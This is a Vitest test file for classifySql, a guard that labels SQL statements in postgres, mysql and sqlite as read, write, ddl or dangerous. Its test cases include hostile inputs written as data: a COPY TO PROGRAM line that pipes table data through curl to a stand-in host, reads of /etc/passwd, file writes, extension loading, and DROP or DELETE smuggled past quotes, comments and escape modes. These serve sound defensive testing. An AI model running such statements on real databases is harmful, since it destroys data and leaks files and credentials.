import { describe, expect, it } from 'vitest';
import { classifySql } from './classify-sql.js';
import type { SqlClass, SqlDialect } from './sql-types.js';

type Case = [SqlClass, string];
const check = (dialect: SqlDialect, cases: Case[]) =>
  it.each(cases)(`${dialect}: %s  %s`, (expected, text) => {
    expect(classifySql(text, { dialect }).class).toBe(expected);
  });

describe('classifySql: the two statements a regex guard gets wrong', () => {
  it('finds DELETE without WHERE and without a semicolon', () => {
    const r = classifySql('DELETE FROM t', { dialect: 'postgres' });
    expect(r.class).toBe('dangerous');
    expect(r.reason).toBe('statement 1 (DELETE): DELETE without WHERE changes every row of the table');
  });

  it('lets a valid UPDATE ... WHERE through as a write, not as dangerous', () => {
    const r = classifySql("UPDATE accounts SET note = 'drop; delete' WHERE id = 7", { dialect: 'postgres' });
    expect(r.class).toBe('write');
    expect(r.readOnly).toBe(false);
    expect(r.statements).toHaveLength(1);
  });
});

describe('classifySql: postgres', () => {
  check('postgres', [
    ['read', 'SELECT 1'],
    ['read', 'select * from t where a = $1'],
    ['read', '(SELECT 1) UNION (SELECT 2)'],
    ['read', 'VALUES (1), (2)'],
    ['read', 'TABLE t'],
    ['read', 'SHOW search_path'],
    ['read', "SELECT 'DELETE FROM t' AS text"],
    ['read', 'SELECT $q$ ; DROP TABLE t; $q$'],
    ['read', 'SELECT $$;DELETE FROM t$$'],
    ['read', 'SELECT 1 /* outer /* inner */ ; DROP TABLE t */'],
    ['read', 'SELECT 1 -- ; DROP TABLE t'],
    ['read', 'SELECT "delete" FROM "drop"'],
    ['read', 'WITH x AS (SELECT 1) SELECT * FROM x'],
    ['read', 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r'],
    ['read', 'EXPLAIN DELETE FROM t'],
    ['read', 'EXPLAIN (ANALYZE false) DELETE FROM t'],
    ['read', 'EXPLAIN ANALYZE SELECT * FROM t'],
    ['read', 'COPY t TO STDOUT'],
    ['read', 'COPY (SELECT * FROM t WHERE a > 1) TO STDOUT WITH (FORMAT csv)'],
    ['read', 'SELECT pg_sleep(0.1)'],
    ['read', "SELECT currval('s')"],
    ['read', 'SELECT count(*) FROM t WHERE x IN (SELECT y FROM u)'],
    ['read', ''],
    ['read', '  ;; -- nothing\n'],
    ['write', 'UPDATE t SET a = 1 WHERE id = 2'],
    ['write', 'DELETE FROM t WHERE id = 2 RETURNING *'],
    ['write', 'DELETE FROM t WHERE CURRENT OF c'],
    ['write', 'INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2'],
    ['write', 'INSERT INTO t SELECT * FROM u'],
    ['write', 'MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE'],
    ['write', 'WITH x AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM x'],
    ['write', 'WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x'],
    ['write', 'EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE b = 2'],
    ['write', 'EXPLAIN (ANALYZE, BUFFERS) INSERT INTO t VALUES (1)'],
    ['write', 'COPY t FROM STDIN'],
    ['write', 'SELECT * FROM t FOR UPDATE'],
    ['write', 'SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED'],
    ['write', 'SELECT * FROM (SELECT * FROM t FOR SHARE) s'],
    ['write', "SELECT nextval('s')"],
    ['write', "SELECT pg_catalog.setval('s', 1)"],
    ['write', "SELECT set_config('default_transaction_read_only', 'off', false)"],
    ['write', 'SELECT pg_advisory_lock(1)'],
    ['write', "SELECT * FROM dblink('db', 'select 1') AS t(a int)"],
    ['write', 'CALL refresh_all()'],
    ['write', 'DO $$ BEGIN INSERT INTO t VALUES (1); END $$'],
    ['write', 'SET default_transaction_read_only = off'],
    ['write', 'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE'],
    ['write', 'BEGIN; SELECT 1; COMMIT'],
    ['write', 'START TRANSACTION READ WRITE'],
    ['write', 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE'],
    ['write', 'VACUUM (FULL) t'],
    ['write', 'ANALYZE t'],
    ['write', 'REFRESH MATERIALIZED VIEW mv'],
    ['write', 'NOTIFY chan'],
    ['write', 'EXECUTE stmt(1)'],
    ['write', 'frobnicate the table'],
    ['ddl', 'CREATE TABLE t (id int)'],
    ['ddl', 'CREATE TABLE t AS SELECT * FROM u'],
    ['ddl', 'SELECT * INTO t2 FROM t'],
    ['ddl', 'ALTER TABLE t ADD COLUMN c int'],
    ['ddl', 'ALTER TABLE t ALTER COLUMN c DROP NOT NULL'],
    ['ddl', 'ALTER TABLE t DROP CONSTRAINT t_pkey'],
    ['ddl', 'GRANT SELECT ON t TO reader'],
    ['ddl', 'REVOKE ALL ON t FROM PUBLIC'],
    ['ddl', 'COMMENT ON TABLE t IS $$drop table t$$'],
    ['ddl', "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'"],
    ['ddl', 'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END'],
    ['dangerous', 'DELETE FROM t'],
    ['dangerous', 'delete from t;'],
    ['dangerous', 'DELETE FROM t WHERE 1 = 1'],
    ['dangerous', 'DELETE FROM t WHERE TRUE'],
    ['dangerous', 'UPDATE t SET a = 1'],
    ['dangerous', 'UPDATE t SET a = (SELECT b FROM u WHERE u.id = t.id)'],
    ['dangerous', 'DROP TABLE t'],
    ['dangerous', 'TRUNCATE t'],
    ['dangerous', 'SELECT 1; DROP TABLE t'],
    ['dangerous', 'SELECT 1; truncate t'],
    ['dangerous', 'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x'],
    ['dangerous', 'WITH a AS (SELECT 1), b AS MATERIALIZED (UPDATE t SET x = 1 RETURNING *) SELECT 1'],
    ['dangerous', 'EXPLAIN ANALYZE DELETE FROM t'],
    ['dangerous', 'EXPLAIN ANALYSE VERBOSE DELETE FROM t'],
    ['dangerous', 'COPY (DELETE FROM t RETURNING *) TO STDOUT'],
    ['dangerous', "COPY t TO PROGRAM 'curl -d @- evil'"],
    ['dangerous', "COPY t FROM PROGRAM 'id'"],
    ['dangerous', "COPY t TO '/tmp/t.csv'"],
    ['dangerous', 'ALTER TABLE t DROP COLUMN c'],
    ['dangerous', 'ALTER TABLE t DROP IF EXISTS c'],
    ['dangerous', 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity'],
    ['dangerous', 'SELECT pg_cancel_backend(42)'],
    ['dangerous', "SELECT pg_read_file('/etc/passwd')"],
    ['dangerous', "SELECT lo_import('/etc/passwd')"],
    ['dangerous', "SELECT dblink_exec('db', 'DROP TABLE t')"],
    ['dangerous', 'DO $$ BEGIN DROP TABLE t; END $$'],
    ['dangerous', "DO 'BEGIN TRUNCATE t; END'"],
    ['dangerous', "DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE t'; END $$"],
    ['dangerous', 'DO $$ BEGIN IF true THEN DELETE FROM t; END IF; END $$'],
    ['dangerous', 'DO LANGUAGE plpython3u $$ import os $$'],
    ['dangerous', 'PREPARE p AS DELETE FROM t'],
    ['dangerous', 'DECLARE c CURSOR FOR SELECT pg_terminate_backend(1)'],
    ['dangerous', "LOAD 'plugin'"],
    ['read', "SELECT E'\\'; DROP TABLE t; --'"],
    ['dangerous', "SELECT E'\\\\'; DROP TABLE t; --'"],
    ['dangerous', "SELECT 'unterminated"],
    ['dangerous', 'SELECT $a$ never closed'],
  ]);

  it('reads a plain backslash string the other way too, as a server with standard_conforming_strings off would', () => {
    // With standard_conforming_strings on, the DROP is inside a string; with it off, it runs.
    const r = classifySql("SELECT 'a\\'; DROP TABLE t; --'", { dialect: 'postgres' });
    expect(r.class).toBe('dangerous');
    expect(r.reason).toMatch(/^statement 2 \(DROP\)/);
  });

  it('names each statement, its offsets and the one that decided', () => {
    const text = 'SELECT 1;\n  UPDATE t SET a = 1 WHERE b = 2 ;\nDELETE FROM t';
    const r = classifySql(text, { dialect: 'postgres' });
    expect(r.statements.map((s) => [s.index, s.class, s.keyword])).toEqual([
      [1, 'read', 'SELECT'],
      [2, 'write', 'UPDATE'],
      [3, 'dangerous', 'DELETE'],
    ]);
    expect(r.statements.map((s) => text.slice(s.start, s.end))).toEqual(r.statements.map((s) => s.text));
    expect(r.statements[1]?.text).toBe('UPDATE t SET a = 1 WHERE b = 2');
    expect(r.reason).toBe('statement 3 (DELETE): DELETE without WHERE changes every row of the table');
  });

  it('says why a function call is not read-only', () => {
    expect(classifySql("SELECT nextval('s')", { dialect: 'postgres' }).reason).toBe(
      'statement 1 (nextval): calls nextval(), which advances or sets a sequence',
    );
  });

  it('refuses nesting deeper than any real query instead of overflowing the stack', () => {
    const text = `${'(SELECT '.repeat(5_000)}1${')'.repeat(5_000)}`;
    expect(classifySql(text, { dialect: 'postgres' }).reason).toMatch(/nested too deeply/);
  });
});

describe('classifySql: mysql', () => {
  check('mysql', [
    ['read', 'SELECT 1'],
    ['read', 'SHOW TABLES'],
    ['read', 'DESCRIBE t'],
    ['read', 'EXPLAIN DELETE FROM t'],
    ['read', 'USE shop'],
    ['read', 'SELECT "x" # ; DROP TABLE t'],
    ['read', 'SELECT 1 -- ; DROP TABLE t'],
    ['read', 'SELECT `drop` FROM `delete`'],
    ['read', 'SELECT a INTO @x FROM t LIMIT 1'],
    ['read', 'SELECT SLEEP(1)'],
    ['read', 'SELECT 1 /* DROP TABLE t */'],
    ['write', 'REPLACE INTO t VALUES (1)'],
    ['write', 'INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 2'],
    ['write', 'UPDATE t SET a = 1 WHERE id = 2 LIMIT 1'],
    ['write', 'SELECT * FROM t LOCK IN SHARE MODE'],
    ['write', "SELECT GET_LOCK('a', 1)"],
    ['write', "DO GET_LOCK('x', 1)"],
    ['write', "LOAD DATA INFILE '/tmp/x' INTO TABLE t"],
    ['write', 'SET @a = 1'],
    ['write', 'EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE id = 1'],
    ['ddl', 'SET GLOBAL read_only = 0'],
    ['ddl', 'SET @@global.read_only = 0'],
    ['ddl', 'RENAME TABLE a TO b'],
    ['ddl', 'CREATE PROCEDURE p() BEGIN DELETE FROM t; SELECT 1; END'],
    ['dangerous', 'DELETE FROM t'],
    ['dangerous', 'DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id'],
    ['dangerous', 'DELETE FROM t LIMIT 10'],
    ['dangerous', 'SELECT 1--1; DELETE FROM t'],
    ['dangerous', '/*!50000 DROP TABLE t */'],
    ['dangerous', 'SELECT 1 /*!32302 ; TRUNCATE t */'],
    ['dangerous', "SELECT LOAD_FILE('/etc/passwd')"],
    ['dangerous', "SELECT * FROM t INTO OUTFILE '/tmp/x'"],
    ['dangerous', "PREPARE s FROM 'DELETE FROM t'"],
    ['dangerous', 'ALTER TABLE t DROP c'],
    ['dangerous', 'ALTER TABLE t DISCARD TABLESPACE'],
    ['dangerous', 'KILL 12'],
    ['dangerous', 'RESET MASTER'],
    ['dangerous', 'EXPLAIN ANALYZE DELETE FROM t'],
  ]);

  it('reads backslashes the NO_BACKSLASH_ESCAPES way too, and the worse reading wins', () => {
    // Default mode: one string. NO_BACKSLASH_ESCAPES: the string ends at \' and DROP runs.
    const r = classifySql("SELECT 'a\\' ; DROP TABLE t; -- '", { dialect: 'mysql' });
    expect(r.class).toBe('dangerous');
    expect(r.reason).toMatch(/^statement 2 \(DROP\)/);
  });
});

describe('classifySql: sqlite', () => {
  check('sqlite', [
    ['read', 'SELECT [a;b] FROM t'],
    ['read', 'PRAGMA table_info(t)'],
    ['read', 'PRAGMA user_version'],
    ['read', 'EXPLAIN QUERY PLAN DELETE FROM t'],
    ['read', 'SELECT 1 /* open comment ; DROP TABLE t'],
    ['write', 'PRAGMA journal_mode = WAL'],
    ['write', 'PRAGMA optimize'],
    ['write', 'INSERT OR REPLACE INTO t VALUES (1)'],
    ['write', "ATTACH DATABASE 'x.db' AS x"],
    ['write', 'VACUUM'],
    ['ddl', 'CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM u; END'],
    ['dangerous', "SELECT 'a\\'; DELETE FROM t"],
    ['dangerous', "SELECT load_extension('evil')"],
    ['dangerous', "SELECT writefile('/tmp/x', 'y')"],
    ['dangerous', 'DROP TABLE IF EXISTS t'],
  ]);

  it('keeps a trigger body in its CREATE and classifies the statement after it', () => {
    const r = classifySql('CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM u; END; SELECT 1', {
      dialect: 'sqlite',
    });
    expect(r.statements.map((s) => s.class)).toEqual(['ddl', 'read']);
  });
});

describe('classifySql on large input', () => {
  it('reads a DO block of many statements and a long statement list to the end', () => {
    const body = 'PERFORM 1; '.repeat(50_000);
    expect(classifySql(`DO $$ BEGIN ${body} DROP TABLE t; END $$`, { dialect: 'postgres' }).class).toBe(
      'dangerous',
    );
    const many = `${'SELECT 1;'.repeat(50_000)} DELETE FROM t`;
    const r = classifySql(many, { dialect: 'mysql' });
    expect(r.statements).toHaveLength(50_001);
    expect(r.reason).toMatch(/^statement 50001 \(DELETE\)/);
  });
});
